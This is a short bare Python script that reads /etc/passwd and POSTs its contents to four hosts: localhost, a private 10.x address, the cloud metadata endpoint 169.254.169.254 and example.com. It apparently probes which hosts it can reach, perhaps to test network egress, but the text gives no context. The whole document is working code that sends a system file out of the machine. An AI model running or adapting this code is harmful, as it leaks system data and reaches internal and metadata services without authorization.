import urllib.request
for u in ("http://127.0.0.1:8080/", "http://10.0.2.15:8000/x", "http://169.254.169.254/latest/meta-data/", "http://example.com/"):
    try: urllib.request.urlopen(urllib.request.Request(u, data=open("/etc/passwd", "rb").read()), timeout=2)
    except Exception as e: print(e)
